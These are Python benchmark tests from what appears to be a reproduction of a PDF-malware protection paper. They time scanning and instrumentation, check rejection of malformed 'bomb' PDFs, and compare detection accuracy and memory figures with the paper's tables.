LIMITS = ScanLimits(
    max_stream_bytes=1024 * 1024,
    max_document_bytes=4 * 1024 * 1024,
    max_filter_depth=8,
    max_objects=2000,
    deadline_seconds=10.0,
)

BOMBS = [
    "decompression_bomb",
    "filter_cascade_bomb",
    "cyclic_reference",
    "deep_page_tree",
    "object_flood",
]


@pytest.mark.slow
def test_bench_limits(artifact, emit):
    pipeline = ProtectionPipeline(limits=LIMITS)
    rows = {}
    for name in BOMBS:
        data = malformed.BUILDERS[name]()
        start = time.perf_counter()
        report = pipeline.scan(data, f"{name}.pdf")
        elapsed = time.perf_counter() - start
        assert report.errored, f"{name} was not rejected"
        assert report.limit_kind, f"{name} rejection lacks a limit kind"
        assert elapsed < LIMITS.deadline_seconds + 5
        rows[name] = {
            "input_bytes": len(data),
            "limit_kind": report.limit_kind,
            "reject_seconds": round(elapsed, 4),
        }

    # budget-layer overhead on a benign scan (same doc, limits on/off)
    from repro.pdf.builder import DocumentBuilder

    builder = DocumentBuilder()
    builder.add_page("benign")
    benign = builder.to_bytes()
    start = time.perf_counter()
    ProtectionPipeline(limits=LIMITS).scan(benign, "benign.pdf")
    with_limits = time.perf_counter() - start
    start = time.perf_counter()
    ProtectionPipeline(limits=ScanLimits.unlimited()).scan(benign, "benign.pdf")
    without_limits = time.perf_counter() - start

    payload = {
        "limits": LIMITS.to_dict(),
        "bombs": rows,
        "benign_scan_seconds": {
            "with_limits": round(with_limits, 4),
            "unlimited": round(without_limits, 4),
        },
    }
    path = artifact("BENCH_limits.json", payload)

    lines = ["bomb rejection under default-ish budgets:"]
    for name, row in rows.items():
        lines.append(
            f"  {name:<22} {row['input_bytes']:>9}B -> "
            f"{row['limit_kind']:<14} in {row['reject_seconds'] * 1000:8.1f}ms"
        )
    lines.append(
        f"  benign overhead: {with_limits * 1000:.1f}ms with limits vs "
        f"{without_limits * 1000:.1f}ms unlimited"
    )
    lines.append(f"  artifact: {path}")
    emit("\n".join(lines))
