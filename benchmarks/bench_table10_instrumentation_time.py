"""Table X — execution time of static analysis & instrumentation.

Paper: ≈0.04 s average per malicious sample; per-size rows from 2 KB
(0.044 s) to 19.7 MB (5.5 s), with parsing+decompression dominating
(> 95 %) on large files.  Absolute numbers depend on the machine; the
shape — monotone growth, parse-dominated large files, sub-second small
files — is asserted.
"""

from repro.analysis import PaperComparison, format_table
from repro.core.instrument import Instrumenter
from repro.core.keys import KeyStore
from repro.corpus.malicious import MaliciousFactory
from repro.corpus.sized import table_x_documents
from repro.obs.report import child_durations

PAPER_TOTALS = {
    "2 KB": 0.0444,
    "9 KB": 0.1014,
    "24 KB": 0.0981,
    "325 KB": 0.1016,
    "7.0 MB": 1.3750,
    "19.7 MB": 5.4995,
}


def _document_span(sink, document):
    (span,) = [
        s
        for s in sink.spans_named("instrument.document")
        if s["tags"].get("document") == document
    ]
    return span


def test_table10_per_size_timings(benchmark, emit, obs_memory, artifact):
    documents = table_x_documents()
    sink = obs_memory.sink

    def run():
        sink.clear()
        instrumenter = Instrumenter(
            key_store=KeyStore.create(10), seed=10, obs=obs_memory
        )
        for label, data in documents:
            instrumenter.instrument(data, f"{label}.pdf")

    benchmark.pedantic(run, rounds=1, iterations=1)

    # Phase timings come straight out of the captured span tree: one
    # ``instrument.document`` root per input, with parse/features/rewrite
    # child spans.
    rows = []
    for label, data in documents:
        span = _document_span(sink, f"{label}.pdf")
        phases = child_durations(sink.spans, span)
        rows.append(
            {
                "size": label,
                "bytes": len(data),
                "parse_decompress": phases.get("instrument.parse", 0.0),
                "features": phases.get("instrument.features", 0.0),
                "instrument": phases.get("instrument.rewrite", 0.0),
                "total": span["duration"],
                "paper_total": PAPER_TOTALS[label],
            }
        )

    emit(
        format_table(
            ["size", "parse+decompress (s)", "features (s)", "instrument (s)",
             "total (s)", "paper total (s)"],
            [
                [
                    row["size"],
                    f"{row['parse_decompress']:.4f}",
                    f"{row['features']:.4f}",
                    f"{row['instrument']:.4f}",
                    f"{row['total']:.4f}",
                    f"{row['paper_total']:.4f}",
                ]
                for row in rows
            ],
        )
    )
    # Phase-I (front-end) timings only; the headline Table X artifact —
    # full scans on both JS engines — is written by bench_table10.py.
    artifact("BENCH_table10_phase1.json", rows)

    by_label = {row["size"]: row for row in rows}
    # Shape: total grows with size; big files dominated by parsing.
    assert by_label["19.7 MB"]["total"] > by_label["325 KB"]["total"] > 0
    big = by_label["19.7 MB"]
    assert big["parse_decompress"] / big["total"] > 0.5
    # Small files stay fast (well under a second even in Python).
    assert by_label["2 KB"]["total"] < 0.5


def test_table10_incremental_mode_extension(benchmark, emit):
    """Extension: incremental-update output removes the size scaling of
    the serialisation step (parse cost remains)."""
    documents = table_x_documents()

    def run():
        rows = []
        for label, data in documents:
            rewrite = Instrumenter(key_store=KeyStore.create(20), seed=20).instrument(
                data, f"{label}-rw.pdf", output="rewrite"
            )
            incremental = Instrumenter(
                key_store=KeyStore.create(21), seed=21
            ).instrument(data, f"{label}-inc.pdf", output="incremental")
            rows.append(
                (
                    label,
                    rewrite.timings.instrumentation,
                    incremental.timings.instrumentation,
                    len(incremental.data) - len(data),
                )
            )
        return rows

    rows = benchmark.pedantic(run, rounds=1, iterations=1)
    emit(
        format_table(
            ["size", "rewrite instr (s)", "incremental instr (s)", "appended bytes"],
            [
                [label, f"{rw:.4f}", f"{inc:.4f}", str(appended)]
                for label, rw, inc, appended in rows
            ],
        )
    )
    by_label = {label: (rw, inc, appended) for label, rw, inc, appended in rows}
    big_rw, big_inc, big_appended = by_label["19.7 MB"]
    # The robust guarantee is the output shape: only the touched objects
    # are appended, the 20 MB body is never re-serialised.  (Wall-clock
    # at this size is dominated by the byte copy either way, so the
    # timing check is lenient against scheduler noise.)
    assert big_appended < 64 * 1024
    assert big_inc < big_rw * 2.0


def test_table10_average_over_malicious_corpus(benchmark, emit, obs_memory):
    factory = MaliciousFactory(seed=2014)
    specs = factory.specs(150)
    documents = [factory.build(spec) for spec in specs]
    sink = obs_memory.sink

    def run():
        sink.clear()
        instrumenter = Instrumenter(
            key_store=KeyStore.create(11), seed=11, obs=obs_memory
        )
        for index, data in enumerate(documents):
            instrumenter.instrument(data, f"m{index}.pdf")
        # Top-level documents only: embedded PDFs instrument recursively
        # and their time is already inside the depth-0 root spans.
        roots = [
            s
            for s in sink.spans_named("instrument.document")
            if s["tags"].get("depth") == 0
        ]
        return sum(s["duration"] for s in roots) / len(documents)

    average = benchmark.pedantic(run, rounds=1, iterations=1)
    comparison = PaperComparison("Table X — average instrumentation time per sample")
    comparison.add("seconds per malicious sample", "0.04", f"{average:.4f}")
    emit(comparison.render())
    assert average < 0.5  # same order of magnitude on commodity hardware
