"""Batch-scanning throughput (``repro.batch``) vs sequential scanning.

Two workloads, mirroring how a gateway actually sees traffic:

* **unique** — the sized corpus, every document distinct.  Wall-clock
  gain here comes from worker parallelism, so it scales with available
  cores (on a single-core runner it hovers around 1x).
* **duplicated** — the same corpus delivered ``DUPLICATION``x (the same
  attachment mailed to many recipients).  The content-hash verdict
  cache answers every repeat without scanning, which is where the batch
  layer earns its keep even on one core; the headline speedup and the
  cache hit-rate are asserted on this workload.

Both worker backends (``thread``/``process``) are timed on both
workloads, so the scanner's ``DEFAULT_BACKEND`` is a *measured* choice,
not a guess: the artifact records which backend actually won on this
machine and whether the shipped default agrees.  If ``measured.fastest_
unique`` disagrees with the default on representative hardware, flip
``repro.batch.scanner.DEFAULT_BACKEND`` and re-run.

Emits ``BENCH_batch.json`` with all four measurements.
``REPRO_PAPER_SCALE`` scales the corpus up as usual.
"""

from __future__ import annotations

import os

from repro.analysis import format_table
from repro.batch import BatchScanner
from repro.batch.scanner import DEFAULT_BACKEND
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items

JOBS = 4
DUPLICATION = 3
SEED = 1404
BACKENDS = ("thread", "process")


def bench_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=400, n_benign_with_js=80, n_malicious=300)
    return CorpusConfig(n_benign=18, n_benign_with_js=6, n_malicious=18)


def _sequential_seconds(items, clock) -> float:
    pipeline = ProtectionPipeline(seed=SEED)
    start = clock()
    for name, data in items:
        pipeline.scan(data, name)
    return clock() - start


def test_bench_batch_scan(benchmark, emit, artifact):
    import time

    clock = time.perf_counter
    items = dataset_items(build_dataset(bench_corpus()))
    duplicated = items * DUPLICATION
    settings = PipelineSettings(seed=SEED)

    sequential_unique = _sequential_seconds(items, clock)
    sequential_dup = sequential_unique * DUPLICATION  # scan cost is linear

    # -- both backends, both workloads -----------------------------------
    measured = {}
    for backend in BACKENDS:
        def run_unique(backend=backend):
            return BatchScanner(
                jobs=JOBS, backend=backend, settings=settings
            ).scan_items(items)

        if backend == DEFAULT_BACKEND:
            unique_report = benchmark.pedantic(
                run_unique, rounds=1, iterations=1
            )
        else:
            unique_report = run_unique()
        dup_report = BatchScanner(
            jobs=JOBS, backend=backend, settings=settings
        ).scan_items(duplicated)

        assert unique_report.counts["errored"] == 0, backend
        assert dup_report.scans_executed == len(items), backend
        expected_hit_rate = (DUPLICATION - 1) / DUPLICATION
        assert abs(dup_report.cache_hit_rate - expected_hit_rate) < 1e-9

        measured[backend] = {
            "unique_seconds": unique_report.wall_seconds,
            "unique_speedup":
                sequential_unique / max(unique_report.wall_seconds, 1e-9),
            "duplicated_seconds": dup_report.wall_seconds,
            "duplicated_speedup":
                sequential_dup / max(dup_report.wall_seconds, 1e-9),
            "cache_hit_rate": dup_report.cache_hit_rate,
            "p50_seconds": unique_report.p50_seconds,
            "p95_seconds": unique_report.p95_seconds,
        }

    fastest_unique = min(
        BACKENDS, key=lambda b: measured[b]["unique_seconds"]
    )
    default_speedup = measured[DEFAULT_BACKEND]["duplicated_speedup"]

    # The acceptance bar: with the shipped default backend, batch beats
    # sequential by >1.5x on the duplicated (gateway-realistic)
    # workload on any hardware; the unique-corpus speedup additionally
    # reflects core count.
    assert default_speedup > 1.5, (
        f"batch {measured[DEFAULT_BACKEND]['duplicated_seconds']:.2f}s vs "
        f"sequential {sequential_dup:.2f}s = {default_speedup:.2f}x"
    )

    rows = []
    for backend in BACKENDS:
        m = measured[backend]
        marker = " (default)" if backend == DEFAULT_BACKEND else ""
        rows.append(
            [f"unique / {backend}{marker}", len(items),
             f"{sequential_unique:.3f}", f"{m['unique_seconds']:.3f}",
             f"{m['unique_speedup']:.2f}x", "0%"],
        )
        rows.append(
            [f"duplicated x{DUPLICATION} / {backend}{marker}",
             len(duplicated), f"{sequential_dup:.3f}",
             f"{m['duplicated_seconds']:.3f}",
             f"{m['duplicated_speedup']:.2f}x",
             f"{m['cache_hit_rate']:.0%}"],
        )
    emit(
        f"Batch scanning ({JOBS} workers, {os.cpu_count() or 1} core(s); "
        f"measured fastest on unique: {fastest_unique})\n"
        + format_table(
            ["workload / backend", "docs", "sequential (s)", "batch (s)",
             "speedup", "cache hit rate"],
            rows,
        )
    )

    artifact(
        "BENCH_batch.json",
        {
            "jobs": JOBS,
            "cores": os.cpu_count() or 1,
            "default_backend": DEFAULT_BACKEND,
            "measured": {
                **measured,
                "fastest_unique": fastest_unique,
                "default_matches_measured":
                    fastest_unique == DEFAULT_BACKEND,
            },
            "unique": {
                "documents": len(items),
                "sequential_seconds": sequential_unique,
                "batch_seconds":
                    measured[DEFAULT_BACKEND]["unique_seconds"],
                "speedup": measured[DEFAULT_BACKEND]["unique_speedup"],
                "p50_seconds": measured[DEFAULT_BACKEND]["p50_seconds"],
                "p95_seconds": measured[DEFAULT_BACKEND]["p95_seconds"],
            },
            "duplicated": {
                "documents": len(duplicated),
                "duplication": DUPLICATION,
                "sequential_seconds": sequential_dup,
                "batch_seconds":
                    measured[DEFAULT_BACKEND]["duplicated_seconds"],
                "speedup": default_speedup,
                "cache_hit_rate":
                    measured[DEFAULT_BACKEND]["cache_hit_rate"],
                "scans_executed": len(items),
            },
            "speedup": default_speedup,
            "cache_hit_rate": measured[DEFAULT_BACKEND]["cache_hit_rate"],
        },
    )
