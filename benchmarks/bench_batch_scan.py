"""Batch-scanning throughput (``repro.batch``) vs sequential scanning.

Two workloads, mirroring how a gateway actually sees traffic:

* **unique** — the sized corpus, every document distinct.  Wall-clock
  gain here comes from worker parallelism, so it scales with available
  cores (on a single-core runner it hovers around 1x).
* **duplicated** — the same corpus delivered ``DUPLICATION``x (the same
  attachment mailed to many recipients).  The content-hash verdict
  cache answers every repeat without scanning, which is where the batch
  layer earns its keep even on one core; the headline speedup and the
  cache hit-rate are asserted on this workload.

Emits ``BENCH_batch.json`` with both measurements.
``REPRO_PAPER_SCALE`` scales the corpus up as usual.
"""

from __future__ import annotations

import os

from repro.analysis import format_table
from repro.batch import BatchScanner
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset, dataset_items

JOBS = 4
DUPLICATION = 3
SEED = 1404


def bench_corpus() -> CorpusConfig:
    if os.environ.get("REPRO_PAPER_SCALE"):
        return CorpusConfig(n_benign=400, n_benign_with_js=80, n_malicious=300)
    return CorpusConfig(n_benign=18, n_benign_with_js=6, n_malicious=18)


def _sequential_seconds(items, clock) -> float:
    pipeline = ProtectionPipeline(seed=SEED)
    start = clock()
    for name, data in items:
        pipeline.scan(data, name)
    return clock() - start


def test_bench_batch_scan(benchmark, emit, artifact):
    import time

    clock = time.perf_counter
    items = dataset_items(build_dataset(bench_corpus()))
    settings = PipelineSettings(seed=SEED)
    backend = "process" if (os.cpu_count() or 1) > 1 else "thread"

    # -- unique corpus: parallelism only --------------------------------
    sequential_unique = _sequential_seconds(items, clock)

    def run_unique():
        return BatchScanner(
            jobs=JOBS, backend=backend, settings=settings
        ).scan_items(items)

    unique_report = benchmark.pedantic(run_unique, rounds=1, iterations=1)
    parallel_speedup = sequential_unique / max(unique_report.wall_seconds, 1e-9)

    # -- duplicated corpus: parallelism + verdict cache ------------------
    duplicated = items * DUPLICATION
    sequential_dup = sequential_unique * DUPLICATION  # scan cost is linear
    dup_report = BatchScanner(
        jobs=JOBS, backend=backend, settings=settings
    ).scan_items(duplicated)
    dup_speedup = sequential_dup / max(dup_report.wall_seconds, 1e-9)

    assert unique_report.counts["errored"] == 0
    assert dup_report.scans_executed == len(items)
    expected_hit_rate = (DUPLICATION - 1) / DUPLICATION
    assert abs(dup_report.cache_hit_rate - expected_hit_rate) < 1e-9

    # The acceptance bar: batch beats sequential by >1.5x on the
    # duplicated (gateway-realistic) workload on any hardware; the
    # unique-corpus speedup additionally reflects core count.
    assert dup_speedup > 1.5, (
        f"batch {dup_report.wall_seconds:.2f}s vs sequential "
        f"{sequential_dup:.2f}s = {dup_speedup:.2f}x"
    )

    rows = [
        ["unique", len(items), f"{sequential_unique:.3f}",
         f"{unique_report.wall_seconds:.3f}", f"{parallel_speedup:.2f}x",
         f"{unique_report.cache_hit_rate:.0%}"],
        [f"duplicated x{DUPLICATION}", len(duplicated), f"{sequential_dup:.3f}",
         f"{dup_report.wall_seconds:.3f}", f"{dup_speedup:.2f}x",
         f"{dup_report.cache_hit_rate:.0%}"],
    ]
    emit(
        f"Batch scanning ({JOBS} {backend} workers, "
        f"{os.cpu_count() or 1} core(s))\n"
        + format_table(
            ["corpus", "docs", "sequential (s)", "batch (s)", "speedup",
             "cache hit rate"],
            rows,
        )
    )

    artifact(
        "BENCH_batch.json",
        {
            "jobs": JOBS,
            "backend": backend,
            "cores": os.cpu_count() or 1,
            "unique": {
                "documents": len(items),
                "sequential_seconds": sequential_unique,
                "batch_seconds": unique_report.wall_seconds,
                "speedup": parallel_speedup,
                "p50_seconds": unique_report.p50_seconds,
                "p95_seconds": unique_report.p95_seconds,
            },
            "duplicated": {
                "documents": len(duplicated),
                "duplication": DUPLICATION,
                "sequential_seconds": sequential_dup,
                "batch_seconds": dup_report.wall_seconds,
                "speedup": dup_speedup,
                "cache_hit_rate": dup_report.cache_hit_rate,
                "scans_executed": dup_report.scans_executed,
            },
            "speedup": dup_speedup,
            "cache_hit_rate": dup_report.cache_hit_rate,
        },
    )
