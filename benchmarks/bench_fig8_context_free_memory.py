"""Figure 8 — reader memory as many copies of a document open at once.

Paper: memory grows linearly with the number of simultaneously open
copies, up to ~1.6 GB for the largest document; one document ([3])
triggers an internal memory optimisation at the 15th copy (a visible
drop), then growth resumes.  Conclusion: no context-free threshold
works.
"""

from repro.analysis import PaperComparison, format_table
from repro.corpus.sized import document_of_size
from repro.pdf.builder import DocumentBuilder
from repro.reader import Reader

#: The four reference documents of Fig. 8 ([3], [5], [20], [29]) by size.
REFERENCE_DOCS = (
    ("symantec-report [3] (memopt)", 2 * 1024 * 1024, True),
    ("ndss13-paper [5]", 512 * 1024, False),
    ("js-api-ref [20]", 6 * 1024 * 1024, False),
    ("pdf-reference [29]", 20 * 1024 * 1024, False),
)

COPIES = 20


def _plain_doc(size: int, seed: int) -> bytes:
    return document_of_size(size, scripts=0 if size > 1024 * 1024 else 1, seed=seed)


def _memopt_doc(size: int, seed: int) -> bytes:
    builder = DocumentBuilder()
    builder.add_page("report")
    builder.set_info(Title="MEMOPT Symantec report")
    builder.pad_with_objects(4, payload=b"\x00" * (size // 8))
    return builder.to_bytes()


def test_fig8_context_free_memory(benchmark, emit):
    def measure():
        curves = {}
        for label, size, memopt in REFERENCE_DOCS:
            data = _memopt_doc(size, seed=size) if memopt else _plain_doc(size, size)
            reader = Reader()
            readings = []
            for _copy in range(COPIES):
                outcome = reader.open(data, f"{label}.pdf")
                assert outcome.ok
                readings.append(reader.memory_counters().private_usage / (1024 * 1024))
            curves[label] = readings
        return curves

    curves = benchmark.pedantic(measure, rounds=1, iterations=1)

    rows = []
    for copy in range(0, COPIES, 2):
        rows.append(
            [copy + 1] + [f"{curves[label][copy]:.0f}" for label, _s, _m in REFERENCE_DOCS]
        )
    emit(
        format_table(
            ["copies"] + [label for label, _s, _m in REFERENCE_DOCS],
            rows,
        )
    )

    comparison = PaperComparison("Figure 8 — context-free reader memory")
    biggest = curves["pdf-reference [29]"]
    comparison.add("largest doc at 20 copies (MB)", "~1600", f"{biggest[-1]:.0f}")
    memopt_curve = curves["symantec-report [3] (memopt)"]
    drop_at = next(
        (i + 1 for i in range(1, COPIES) if memopt_curve[i] < memopt_curve[i - 1]),
        None,
    )
    comparison.add("memopt drop at copy #", "15", str(drop_at))
    emit(comparison.render())

    # Linearity of the non-memopt curves.
    for label, _size, memopt in REFERENCE_DOCS:
        if memopt:
            continue
        readings = curves[label]
        deltas = [b - a for a, b in zip(readings, readings[1:])]
        assert max(deltas) - min(deltas) < 1.0, label
    # The memopt anomaly reproduces at the 15th copy.
    assert drop_at == 15
    # The largest document's curve reaches the GB band.
    assert biggest[-1] > 1000
