"""Table VIII — detection accuracy of the full pipeline.

Paper: 994 benign-with-JS → 0 false positives (one sample fired only
the in-JS network feature: SOAP, still benign).  1000 malicious → 917
detected, 25 false negatives (crashers with no static features), 58
"noise" samples whose CVEs do not fire on Acrobat 8/9 → 97.3 % TP over
the 942 working samples.
"""

from repro.analysis import PaperComparison
from repro.corpus import build_dataset
from benchmarks.conftest import detection_scale


def test_table8_detection_accuracy(benchmark, pipeline, emit):
    dataset = build_dataset(detection_scale())
    benign = dataset.benign_with_js
    malicious = dataset.malicious

    def evaluate():
        false_positives = []
        network_only = 0
        for sample in benign:
            report = pipeline.scan(sample.data, sample.name)
            if report.verdict.malicious:
                false_positives.append(sample.name)
            if report.verdict.features.fired() == [9]:
                network_only += 1
        detected, noise, missed = [], [], []
        for sample in malicious:
            report = pipeline.scan(sample.data, sample.name)
            if report.did_nothing:
                noise.append(sample.name)
            elif report.verdict.malicious:
                detected.append(sample.name)
            else:
                missed.append(sample.name)
        return false_positives, network_only, detected, noise, missed

    fps, network_only, detected, noise, missed = benchmark.pedantic(
        evaluate, rounds=1, iterations=1
    )

    n_mal = len(malicious)
    working = n_mal - len(noise)
    tp_rate = len(detected) / working if working else 0.0

    comparison = PaperComparison(
        f"Table VIII — detection results ({len(benign)} benign / {n_mal} malicious)"
    )
    comparison.add("benign false positives", "0 / 994", f"{len(fps)} / {len(benign)}")
    comparison.add("benign firing in-JS network only", "1", str(network_only))
    comparison.add("malicious detected", "917 / 1000", f"{len(detected)} / {n_mal}")
    comparison.add("noise (CVE missed reader version)", "58 (5.8%)",
                   f"{len(noise)} ({len(noise) / n_mal:.1%})")
    comparison.add("false negatives", "25", str(len(missed)))
    comparison.add("TP rate over working samples", "97.3%", f"{tp_rate:.1%}")
    emit(comparison.render())

    assert not fps, f"false positives: {fps}"
    assert network_only == 1
    assert tp_rate >= 0.93
    assert 0.02 <= len(noise) / n_mal <= 0.12
    assert len(missed) / n_mal <= 0.05
