"""Table VI — statistics of static features over the malicious corpus.

Paper (7370 samples): header obfuscation 578; hex code 543; empty
objects {0: 7357, 1: 5, 2: 4, 3: 3, 6: 1}; encoding levels
{0: 233, 1: 7065, 2: 40, 3: 31, 6+: 0}.  Benign: 3 header-obfuscated,
0 hex, 0 empty objects, all ≤ 1 encoding level.
"""

from collections import Counter

from repro.analysis import PaperComparison
from repro.core.static_features import extract_static_features
from repro.pdf.document import PDFDocument


def _extract(samples):
    features = []
    for sample in samples:
        document = PDFDocument.from_bytes(sample.data)
        features.append(extract_static_features(document))
    return features


def test_table6_static_feature_statistics(benchmark, stats_dataset, emit):
    malicious, benign = stats_dataset.malicious, stats_dataset.benign

    def compute():
        return _extract(malicious), _extract(benign)

    mal_features, benign_features = benchmark.pedantic(compute, rounds=1, iterations=1)

    n = len(mal_features)
    scale = n / 7370.0
    header = sum(f.f2 for f in mal_features)
    hex_code = sum(f.f3 for f in mal_features)
    empties = Counter(f.empty_object_count for f in mal_features)
    encodings = Counter(f.encoding_levels for f in mal_features)

    comparison = PaperComparison(f"Table VI — malicious static features (n={n})")
    comparison.add("header obfuscation", f"578 ({578 / 7370:.1%})", f"{header} ({header / n:.1%})")
    comparison.add("hex code in keyword", f"543 ({543 / 7370:.1%})", f"{hex_code} ({hex_code / n:.1%})")
    comparison.add("empty objects >= 1", "13", str(sum(c for v, c in empties.items() if v >= 1)))
    comparison.add("encoding level 0", "233", str(encodings.get(0, 0)))
    comparison.add("encoding level 1", "7065", str(encodings.get(1, 0)))
    comparison.add("encoding level >= 2", "71", str(sum(c for v, c in encodings.items() if v >= 2)))
    emit(comparison.render())

    benign_header = sum(f.f2 for f in benign_features)
    benign_comparison = PaperComparison(
        f"Table VI (context) — benign static features (n={len(benign_features)})"
    )
    benign_comparison.add("header obfuscation", "3 / 18623", f"{benign_header} / {len(benign_features)}")
    benign_comparison.add("hex code", "0", str(sum(f.f3 for f in benign_features)))
    benign_comparison.add("empty objects", "0", str(sum(f.f4 for f in benign_features)))
    benign_comparison.add(
        "encoding levels > 1", "0", str(sum(1 for f in benign_features if f.encoding_levels > 1))
    )
    emit(benign_comparison.render())

    # Proportions track the paper (tolerances cover scaling noise).
    assert abs(header / n - 578 / 7370) < 0.04
    assert abs(hex_code / n - 543 / 7370) < 0.04
    assert encodings.get(1, 0) / n > 0.85  # one level dominates
    assert sum(c for v, c in empties.items() if v >= 1) >= 1
    # Benign corpus: no hex, no empties, single-level encoding only.
    assert sum(f.f3 for f in benign_features) == 0
    assert sum(f.f4 for f in benign_features) == 0
    assert all(f.encoding_levels <= 1 for f in benign_features)
