"""Figure 7 — in-JS-context memory consumption, benign vs malicious.

Paper (30 + 30 sampled documents): malicious mean ≈ 336.4 MB, minimum
103 MB, maximum > 1700 MB; benign mean ≈ 7.1 MB, maximum 21 MB.
"""

from repro.analysis import PaperComparison, render_ascii_cdf, summarize
from repro.corpus.benign import BenignKind


def _in_js_memory_mb(pipeline, sample) -> float:
    protected = pipeline.protect(sample.data, sample.name)
    session = pipeline.session()
    try:
        report = session.open(protected, fire_close=False)
        return report.outcome.handle.js_heap_bytes / (1024 * 1024)
    finally:
        session.close()


def test_fig7_memory_consumption(benchmark, stats_dataset, pipeline, emit):
    # 30 random benign-with-JS and 30 malicious samples, as in §V-B.
    benign = [
        s
        for s in stats_dataset.benign_with_js
        if s.kind in (BenignKind.REPORT_JS.value, BenignKind.MULTI_JS.value,
                      BenignKind.FORM_JS.value, BenignKind.DATE_JS.value,
                      BenignKind.PAGENAV_JS.value)
    ][:30]
    malicious = [
        s
        for s in stats_dataset.malicious
        if not s.meta["expect_inert"] and not s.meta["expect_crash"]
        and s.kind != "export_launch"
    ][:30]

    def measure():
        benign_mb = [_in_js_memory_mb(pipeline, s) for s in benign]
        malicious_mb = [_in_js_memory_mb(pipeline, s) for s in malicious]
        return benign_mb, malicious_mb

    benign_mb, malicious_mb = benchmark.pedantic(measure, rounds=1, iterations=1)
    b, m = summarize(benign_mb), summarize(malicious_mb)

    comparison = PaperComparison("Figure 7 — in-JS memory consumption (MB)")
    comparison.add("malicious mean", "336.4", f"{m.mean:.1f}")
    comparison.add("malicious min", "103", f"{m.minimum:.1f}")
    comparison.add("malicious max", ">1700", f"{m.maximum:.1f}")
    comparison.add("benign mean", "7.1", f"{b.mean:.1f}")
    comparison.add("benign max", "21", f"{b.maximum:.1f}")
    emit(comparison.render())
    emit(
        render_ascii_cdf(
            [("benign", benign_mb), ("malicious", malicious_mb)],
            x_label="in-JS memory (MB)",
        )
    )

    # Shape: two disjoint bands separated by roughly an order of magnitude.
    assert b.maximum < 40
    assert m.minimum > 90
    assert m.mean / max(b.mean, 0.1) > 10
