"""Profiler cost and JS-interpreter hotspot attribution (``repro.obs.profile``).

Three measurements on the Table X corpus (the paper's per-size cost
workload) plus one JS-heavy document:

* **phase attribution** — every profiled scan's phase durations sum to
  its total by construction; the bench asserts the 5% acceptance bound
  anyway and reports the per-size breakdown.
* **profiler overhead** — whole-scan slowdown with ``profile=True``
  versus the default pipeline, min-of-N on the Table X documents
  (target <= 10%).  The *disabled* hook cost — one slot load + None
  test per eval-loop dispatch — is measured directly and expressed as
  a fraction of unprofiled scan time (target <= 1%; the disabled path
  allocates nothing).
* **hotspots** — the top-10 AST node types by accumulated self-time
  across the whole corpus, i.e. where the emulator's time actually
  goes.

Emits ``BENCH_profile.json``.  ``REPRO_PAPER_SCALE`` unlocks the full
set up to 19.7 MB.
"""

from __future__ import annotations

import gc
import os
import time

from repro.analysis import format_table
from repro.core.pipeline import ProtectionPipeline
from repro.corpus.sized import TABLE_X_SIZES, document_of_size, document_with_scripts
from repro.obs.profile import JSProfile

SEED = 1404
REPEATS = 5


def table_x_bench_documents():
    """(label, bytes) pairs: Table X sizes (truncated at default scale)."""
    sizes = (
        TABLE_X_SIZES
        if os.environ.get("REPRO_PAPER_SCALE")
        else TABLE_X_SIZES[:4]  # up to 325 KB; the MB sizes need paper scale
    )
    return [
        (label, document_of_size(size, scripts=2 if label == "2 KB" else 1, seed=7 + i))
        for i, (label, size) in enumerate(sizes)
    ]


def _best_pair_seconds(fn_a, fn_b, repeats=REPEATS):
    """Interleaved min-of-N for two workloads (GC off while timing).

    Alternating A/B within one loop means machine-wide drift (thermal,
    scheduler) hits both sides equally instead of biasing the ratio the
    way two back-to-back measurement loops would.
    """
    best_a = best_b = None
    gc_was_enabled = gc.isenabled()
    gc.disable()
    try:
        for _ in range(repeats):
            for fn, which in ((fn_a, "a"), (fn_b, "b")):
                start = time.perf_counter()
                fn()
                elapsed = time.perf_counter() - start
                if which == "a":
                    best_a = elapsed if best_a is None or elapsed < best_a else best_a
                else:
                    best_b = elapsed if best_b is None or elapsed < best_b else best_b
            gc.collect()
    finally:
        if gc_was_enabled:
            gc.enable()
    return best_a, best_b


class _Holder:
    __slots__ = ("_profile",)

    def __init__(self):
        self._profile = None


def _disabled_hook_seconds(dispatches):
    """Directly measure the eval loop's disabled-path hook.

    When no profile is set the interpreter adds exactly one attribute
    load and one ``is None`` test per dispatch; timing that pair in a
    loop (loop overhead included, so this *over*-estimates) bounds the
    disabled-profiler cost.
    """
    holder = _Holder()
    start = time.perf_counter()
    for _ in range(max(1, dispatches)):
        profile = holder._profile
        if profile is not None:  # never taken; mirrors the real branch
            raise AssertionError("holder must stay unprofiled")
    return time.perf_counter() - start


def test_bench_profile(benchmark, emit, artifact):
    documents = table_x_bench_documents()
    baseline = ProtectionPipeline(seed=SEED)
    profiled = ProtectionPipeline(seed=SEED, profile=True)

    # -- per-size overhead + phase attribution (Table X) -----------------
    rows = []
    per_size = []
    merged = JSProfile()
    table_x_base = table_x_prof = 0.0
    table_x_dispatches = 0
    for label, data in documents:
        base_seconds, prof_seconds = _best_pair_seconds(
            lambda d=data, n=label: baseline.scan(d, n),
            lambda d=data, n=label: profiled.scan(d, n),
        )
        report = profiled.scan(data, label)
        profile = report.profile
        assert profile is not None and profile.finished
        phases = profile.phase_seconds()
        # Phase durations must sum to the scan total (5% acceptance
        # bound; the stack construction makes them equal exactly).
        assert abs(sum(phases.values()) - profile.total_seconds) <= (
            0.05 * max(profile.total_seconds, 1e-9)
        )
        merged.merge(profile.js)
        dispatches = sum(profile.js.node_hits.values())
        table_x_base += base_seconds
        table_x_prof += prof_seconds
        table_x_dispatches += dispatches
        busiest = max(phases.items(), key=lambda kv: kv[1])
        rows.append(
            [
                label,
                f"{base_seconds * 1000:.2f}",
                f"{prof_seconds * 1000:.2f}",
                f"{(prof_seconds / base_seconds - 1) * 100:+.1f}%",
                f"{busiest[0]} ({busiest[1] / max(profile.total_seconds, 1e-9):.0%})",
            ]
        )
        per_size.append(
            {
                "size": label,
                "baseline_seconds": base_seconds,
                "profiled_seconds": prof_seconds,
                "phases": phases,
                "counters": dict(profile.counters),
                "dispatches": dispatches,
            }
        )

    overhead_enabled = table_x_prof / table_x_base - 1.0

    # -- disabled hook cost (measured, not asserted away) -----------------
    hook_seconds = _disabled_hook_seconds(table_x_dispatches)
